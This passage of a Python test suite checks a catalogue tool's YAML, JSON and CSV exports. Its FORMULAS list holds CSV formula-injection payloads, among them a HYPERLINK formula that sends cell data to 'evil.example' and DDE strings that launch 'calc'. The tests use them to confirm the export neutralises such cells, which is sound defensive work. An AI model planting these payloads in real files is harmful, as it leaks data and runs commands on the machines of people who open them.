    code, err, listing, _ = run_mounted(
        tmp_path,
        setup,
        "export",
        "",
        "-o",
        str(folder / "new.yaml"),
        "--catalog",
        str(BUNDLED),
        "--db",
        str(db),
    )
    assert code == 1
    assert err == (f"catalog-tui: export failed: the folder {folder} is on a read-only disk: "
                   f"{folder / 'new.yaml'} was not written\n")  # fmt: skip
    assert listing == ["old.yaml"]
    assert leftovers(source) == ["old.yaml"]


def test_export_selection_keeps_working_after_a_failed_export(
    catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A failure is not sticky: the next export to a good place works."""
    break_writes(monkeypatch, OSError(errno.ENOSPC, "No space left on device"))
    with pytest.raises(ExportError):
        export_works(catalog, [catalog.work(XING_SHI)], tmp_path / "a.yaml")
    monkeypatch.undo()
    export_works(catalog, [catalog.work(XING_SHI)], tmp_path / "a.yaml")
    assert [w.id for w in load_catalog(tmp_path / "a.yaml").works] == [XING_SHI]


async def test_a_tui_export_interrupted_by_an_error_keeps_the_app_running(
    tmp_path: Path, catalog_file: Path, db_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    app = CatalogApp(catalog_path=catalog_file, db_path=str(db_path))
    notes = notifications(app)
    async with app.run_test(size=SIZE) as pilot:
        await ready(pilot)
        await type_query(pilot, "xingshi")
        await pilot.press("escape")
        break_writes(monkeypatch, OSError(errno.ENOSPC, "No space left on device"))
        await open_export_dialog(pilot, str(tmp_path / "out.yaml"))
        await pilot.press("enter")
        await settle(pilot)
        monkeypatch.undo()
        errors = [str(n.message) for n in notes if n.severity == "error"]
        assert errors == [f"the disk is full: {tmp_path / 'out.yaml'} was not written"]
        assert app.is_running and isinstance(app.screen, MainScreen)
    assert not (tmp_path / "out.yaml").exists() and temporaries(tmp_path) == []


# One export model: `export`, `search --format` and every section, opened as analysts' tools would ---


FORMATS = ("yaml", "json", "csv")
# A figure, a policy, an event, a person and an organisation, so that every section has records to export.
EXTRA = {
    "policies": [{"id": "p1", "name": "一项通知", "kind": "notice", "issuer": "总局", "date": "2025-01",
                  "sources": [{"doc": "fixture_article.txt", "quote": "通知"}]}],
    "events": [{"id": "e1", "name": "一次大会", "kind": "conference", "date": "2024",
                "sources": [{"doc": "fixture_article.txt", "quote": "大会"}]}],
    "figures": [{"id": "f1", "label": "市场规模", "value": 504.4, "unit": "亿元", "period": "2024",
                 "sources": [{"doc": "fixture_article.txt", "quote": "504.4亿元"}]},
                {"id": "f2", "label": "用户", "value": 6, "unit": "亿", "period": "2024",
                 "sources": [{"doc": "fixture_article.txt", "quote": "6亿"}]}],
    "people": [{"id": "someone", "name": "某人", "role": "司长", "organisations": ["o1"],
                "statements": [{"doc": "fixture_article.txt", "quote": "通知"}],
                "sources": [{"doc": "fixture_article.txt", "quote": "通知"}]}],
    "organisations": [{"id": "o1", "name": "一个机构", "kind": "government",
                       "sources": [{"doc": "fixture_article.txt", "quote": "大会"}]}],
}  # fmt: skip


@pytest.fixture
def cli(tmp_path: Path, capsys: pytest.CaptureFixture[str]):
    """Run the CLI on a catalogue with every section filled; returns (exit code, stdout, stderr)."""
    catalog_file = write_catalog(tmp_path / "catalog.yaml", {**catalog_data(), **EXTRA})
    store = ["--catalog", str(catalog_file), "--db", str(tmp_path / "store" / "store.json")]

    def invoke(*argv: str) -> tuple[int, str, str]:
        code = main([*argv, *store])
        out, err = capsys.readouterr()
        assert "Traceback" not in err
        return code, out, err

    return invoke


def rows_of(path: Path, fmt: str, section: str) -> list[dict]:
    """The records of one section, as a tool reads the file."""
    text = path.read_bytes().decode("utf-8-sig")
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(text)))
    data = json.loads(text) if fmt == "json" else yaml.safe_load(text)
    return data[section]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("section", SECTIONS)
def test_every_section_in_every_format_has_the_rows_the_app_reports(
    cli, tmp_path: Path, fmt: str, section: str
) -> None:
    target = tmp_path / f"out.{fmt}"
    code, out, _ = cli("export", "--section", section, "-o", str(target))
    assert code == 0
    reported = int(re.match(r"wrote (\d+) ", out)[1])
    expected = len({**catalog_data(), **EXTRA}[section])
    rows = rows_of(target, fmt, section)
    assert len(rows) == reported == expected
    assert tuple(rows[0]) == columns(section)  # every key, in the model's order, in every format


@pytest.mark.parametrize("fmt", ("yaml", "json"))
def test_yaml_and_json_exports_are_catalogues_validate_and_catalog_accept(
    cli, tmp_path: Path, fmt: str, capsys: pytest.CaptureFixture[str]
) -> None:
    whole = tmp_path / f"all.{fmt}"
    assert cli("export", "--section", "all", "-o", str(whole))[0] == 0
    assert main(["validate", str(whole)]) == 0
    assert (
        "valid: 7 works, 2 campaigns, 2 channels, 1 policies, 1 events, 2 figures" in capsys.readouterr().out
    )
    assert load_catalog(whole).counts() == load_catalog(tmp_path / "catalog.yaml").counts()
    assert main(["search", "苏东坡", "--catalog", str(whole), "--db", str(tmp_path / "other.json")]) == 0
    assert "你好，苏东坡" in capsys.readouterr().out
    for section in SECTIONS:
        part = tmp_path / f"{section}.{fmt}"
        assert cli("export", "--section", section, "-o", str(part))[0] == 0
        assert main(["validate", str(part)]) == 0, capsys.readouterr().err


def test_the_works_a_query_finds_are_the_rows_of_every_format(cli, tmp_path: Path) -> None:
    _, _, err = cli("search", "campaign:旅行 | 醒狮")
    found = int(re.search(r"(\d+) work", err)[1])
    for fmt in FORMATS:
        target = tmp_path / f"q.{fmt}"
        assert cli("export", "campaign:旅行 | 醒狮", "-o", str(target))[0] == 0
        assert len(rows_of(target, fmt, "works")) == found == 3


@pytest.mark.parametrize("fmt", FORMATS)
def test_search_format_is_the_export_model(cli, fmt: str) -> None:
    _, searched, _ = cli("search", "醒狮 | 苏东坡", "--format", fmt)
    _, exported, _ = cli("export", "醒狮 | 苏东坡", "-o", "-", "--format", fmt)
    undated = re.compile(r"^# date: .*$", re.MULTILINE)
    assert undated.sub("", searched) == undated.sub("", exported)


def test_csv_lists_are_json_arrays_and_empty_values_are_empty_cells(cli, tmp_path: Path) -> None:
    target = tmp_path / "w.csv"
    assert cli("export", "", "-o", str(target))[0] == 0
    as_json = tmp_path / "w.json"
    assert cli("export", "", "-o", str(as_json))[0] == 0
    for row, record in zip(rows_of(target, "csv", "works"), rows_of(as_json, "json", "works"), strict=True):
        for key, value in record.items():
            if isinstance(value, list):
                assert json.loads(row[key]) == value
            else:
                assert row[key] == ("" if value is None else str(value))


def test_a_csv_of_every_section_at_once_is_refused(cli, tmp_path: Path) -> None:
    code, _, err = cli("export", "--section", "all", "-o", str(tmp_path / "all.csv"))
    assert code == 1 and "one section" in err
    assert not (tmp_path / "all.csv").exists()


def test_a_query_with_a_section_other_than_works_is_refused(cli, tmp_path: Path) -> None:
    code, _, err = cli("export", "醒狮", "--section", "figures", "-o", str(tmp_path / "f.yaml"))
    assert code == 1 and "--section figures" in err


# Large exports: libyaml's emitter, streamed, with progress (issue 13) ----------------------------

HOSTILE_CATALOGUE = Path(__file__).parent / "data" / "hostile" / "hostile-text.yaml"
STAMP = datetime(2026, 1, 1, 12, 0)


def _pure_pyyaml(data: Any) -> str:
    """What the export wrote before libyaml and streaming: PyYAML's own emitter, in one piece."""
    text = yaml.dump(
        data, Dumper=export_formats._ExportDumper, allow_unicode=True, sort_keys=False, width=100
    )
    return UNSAFE_CHARACTERS.sub(lambda m: f"\\U{ord(m.group()):08x}", text)


def _one_piece(catalog: Catalog, fmt: str) -> bytes:
    """An export of every section rendered in one piece, as before streaming (YAML: below its
    header of comments)."""
    data = export.catalogue_data(catalog, export.selection(catalog, "all"))
    if fmt == "json":
        return (export_formats.escaped(atomic.dumps_json(data, indent=True).decode("utf-8")) + "\n").encode(
            "utf-8"
        )
    return _pure_pyyaml(data).encode("utf-8")


def _below_header(export_bytes: bytes) -> bytes:
    """A YAML export without its header of comments (the query, counts and date)."""
    return re.sub(rb"\A(#.*\n)+", b"", export_bytes)


needs_libyaml = pytest.mark.skipif(export_formats._FastExportDumper is None, reason="PyYAML without libyaml")


@needs_libyaml
@pytest.mark.parametrize("path", [str(bundled_catalog_path()), str(HOSTILE_CATALOGUE)])
def test_libyaml_writes_the_export_byte_for_byte_as_pyyaml_did(path: str) -> None:
    catalog = load_catalog(path)
    data = export.catalogue_data(catalog, export.selection(catalog, "all"))
    assert export_formats.dump_yaml(data) == _pure_pyyaml(data)


@needs_libyaml
def test_the_bundled_catalogue_is_written_by_libyaml(monkeypatch: pytest.MonkeyPatch) -> None:
    catalog = load_catalog(bundled_catalog_path())
    used: list[type] = []
    dump = yaml.dump
    monkeypatch.setattr(
        yaml, "dump", lambda data, **options: used.append(options["Dumper"]) or dump(data, **options)
    )
    export.render(catalog, None, "yaml", section="all")
    assert used and set(used) == {export_formats._FastExportDumper}


# Text a terminal could act on, Chinese, YAML's own syntax, emoji (beyond the BMP) and lone surrogates.
_hostile_text = st.text(
    st.one_of(
        st.characters(codec="utf-8"),
        st.sampled_from("\x00\x07\x1b\x85\u2028\u202e\ufeff\u200b:#'\"-? \n\t汉字🎬"),
        st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF),
    ),
    max_size=150,
)


@needs_libyaml
@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.fixed_dictionaries({"title": _hostile_text, "facts": st.lists(_hostile_text, max_size=3)}),
        max_size=3,
    )
)
def test_libyaml_or_its_fallback_writes_any_text_as_pyyaml_does(records: list[dict[str, Any]]) -> None:
    assert export_formats.dump_yaml({"works": records}) == _pure_pyyaml({"works": records})


@pytest.mark.parametrize("fmt", ["yaml", "json"])
@pytest.mark.parametrize("chunk", [1, 2, 500])
def test_a_streamed_export_is_the_one_piece_export(
    fmt: str, chunk: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "CHUNK", chunk)
    for path in (bundled_catalog_path(), HOSTILE_CATALOGUE):
        catalog = load_catalog(path)
        streamed = render(catalog, None, fmt, section="all", now=STAMP)
        assert (_below_header(streamed) if fmt == "yaml" else streamed) == _one_piece(catalog, fmt)


@pytest.mark.parametrize("fmt", ["yaml", "json", "csv"])
def test_empty_sections_stream_as_they_were_written_whole(fmt: str, catalog: Catalog) -> None:
    empty = render(catalog, [], fmt, now=STAMP)
    if fmt == "csv":
        assert empty == "\ufeff".encode() + ",".join(columns("works")).encode() + b"\r\n"
    elif fmt == "json":
        assert json.loads(empty) == {"works": []} and empty == b'{\n  "works": []\n}\n'
    else:
        assert empty.decode("utf-8").endswith("\nworks: []\n")


@pytest.mark.parametrize("fmt", ["yaml", "json", "csv"])
def test_export_writes_piece_by_piece_with_progress(
    fmt: str, catalog: Catalog, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "CHUNK", 2)
    events: list[tuple[str, int]] = []
    real_write = export_file.atomic_write_bytes

    def recording_write(path: Path, payload: Any, **options: Any) -> None:
        assert not isinstance(payload, bytes), "the export was rendered whole before writing"

        def pieces() -> Any:
            for piece in payload:
                events.append(("write", len(piece)))
                yield piece

        real_write(path, pieces(), **options)

    monkeypatch.setattr(export_file, "atomic_write_bytes", recording_write)
    target = tmp_path / f"out.{fmt}"
    totals: set[int] = set()

    def progress(done: int, total: int) -> None:
        events.append(("progress", done))
        totals.add(total)

    result = export_works(catalog, None, target, progress=progress)
    # Every record of the export (the works and what they link to; CSV: the works), and the passes
    # over them before writing (issue 13: tests/test_export_progress.py counts those).
    total = max(totals)
    records = export.selection(catalog)
    written = len(records["works"]) if fmt == "csv" else sum(map(len, records.values()))
    assert total > written
    assert result.count == len(catalog.works)
    done = [n for kind, n in events if kind == "progress"]
    assert done == sorted(done) and done[0] == 0 and done[-1] == total
    assert len(done) > written // 2  # the start, then once per chunk of two
    # Pieces reached the file while later records were still to be rendered.
    first_write = events.index(next(e for e in events if e[0] == "write"))
    assert first_write < events.index(("progress", total))
    assert sum(1 for kind, _ in events if kind == "write") > written // 2
    in_one_go = render(catalog, None, fmt)
    written = target.read_bytes()
    if fmt == "yaml":  # the date line may differ
        written, in_one_go = (re.sub(rb"# date: .*\n", b"", b) for b in (written, in_one_go))
    assert written == in_one_go


def test_export_rejects_a_bad_format_before_creating_anything(catalog: Catalog, tmp_path: Path) -> None:
    with pytest.raises(ExportError):
        export.render_pieces(catalog, export.selection(catalog, "all"), "csv", section="all")
    with pytest.raises(ExportError):
        export.render_pieces(catalog, export.selection(catalog), "xml")
    assert list(tmp_path.iterdir()) == []


# The seven ways a cell starts a formula: OWASP's = + - @ tab CR, and LF.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


# CSV formulas ------------------------------------------------------------------------------------


def test_csv_export_and_search_neutralise_every_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    titled_store = catalogue_with_titles(tmp_path, FORMULAS)
    target = tmp_path / "out.csv"
    assert run_cli(capsys, "export", "", "-o", str(target), *titled_store)[0] == 0
    pipe = FakeStdout(terminal=False)
    with monkeypatch.context() as patched:
        patched.setattr(sys, "stdout", pipe)
        assert main(["search", "", "--format", "csv", *titled_store]) == 0
    searched = pipe.written()
    for text in (target.read_bytes().decode("utf-8-sig"), searched):
        titles = sorted(row["title"] for row in csv.DictReader(io.StringIO(text, newline="")))
        assert titles == sorted("'" + formula for formula in FORMULAS)
    # JSON keeps the data as it is: only a spreadsheet cell needs the quote.
    _, as_json, _ = run_cli(capsys, "search", "", "--format", "json", *titled_store)
    assert sorted(w["title"] for w in json.loads(as_json)["works"]) == sorted(FORMULAS)


# Where exports go --------------------------------------------------------------------------------


@pytest.fixture
def titled_store(tmp_path: Path) -> list[str]:
    return catalogue_with_titles(tmp_path, ["醒狮", "阿勒泰"])


def test_dash_writes_to_stdout(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str]
) -> None:
    code, out, _ = run_cli(capsys, "export", "", "-o", "-", *titled_store)
    assert code == 0 and len(yaml.safe_load(out)["works"]) == 2
    assert not (Path.cwd() / "-").exists()
    code, out, _ = run_cli(capsys, "export", "", "-o", "-", "--format", "csv", *titled_store)
    assert code == 0 and not out.startswith("\ufeff") and len(out.splitlines()) == 3


@pytest.mark.parametrize(
    ("name", "message"),
    [("out.txt", "cannot tell the format"), ("out", "cannot tell the format"), ("newdir/", "names a folder")],
)
def test_names_that_say_no_format_or_a_folder_are_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str], name: str, message: str
) -> None:
    code, _, err = run_cli(capsys, "export", "", "-o", f"{tmp_path}/{name}", *titled_store)
    assert code == 1 and message in err and err.count("\n") == 1
    assert not (tmp_path / name.rstrip("/")).exists()


def test_force_replaces_a_regular_file_only(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str]
) -> None:
    regular = tmp_path / "regular.yaml"
    regular.write_text("old", encoding="utf-8")
    regular.chmod(0o640)
    assert run_cli(capsys, "export", "", "-o", str(regular), "--force", *titled_store)[0] == 0
    assert "醒狮" in regular.read_text(encoding="utf-8")
    assert stat.S_IMODE(regular.stat().st_mode) == 0o640  # a replaced file keeps its mode

    aim = tmp_path / "aim.yaml"
    aim.write_text("the link's target", encoding="utf-8")
    link = tmp_path / "link.yaml"
    link.symlink_to(aim)
    fifo = tmp_path / "fifo.yaml"
    os.mkfifo(fifo)
    folder = tmp_path / "folder.yaml"
    folder.mkdir()
    for target, kind in (
        (link, "symbolic link"),
        (fifo, "FIFO"),
        (folder, "folder"),
        (Path("/dev/null"), "device"),
    ):
        code, _, err = run_cli(capsys, "export", "", "-o", str(target), "--force", *titled_store)
        assert code == 1 and kind in err, err
    assert link.is_symlink() and aim.read_text(encoding="utf-8") == "the link's target"
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and folder.is_dir()
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write a read-only file")
def test_force_leaves_a_read_only_file_alone(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str]
) -> None:
    locked = tmp_path / "locked.yaml"
    locked.write_text("keep", encoding="utf-8")
    locked.chmod(0o444)
    code, _, err = run_cli(capsys, "export", "", "-o", str(locked), "--force", *titled_store)
    assert code == 1 and "read-only" in err and locked.read_text(encoding="utf-8") == "keep"


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_new_exports_follow_the_umask(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str], umask: int, mode: int
) -> None:
    target = tmp_path / "new.json"
    previous = os.umask(umask)
    try:
        assert run_cli(capsys, "export", "", "-o", str(target), *titled_store)[0] == 0
    finally:
        os.umask(previous)
    assert stat.S_IMODE(target.stat().st_mode) == mode
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
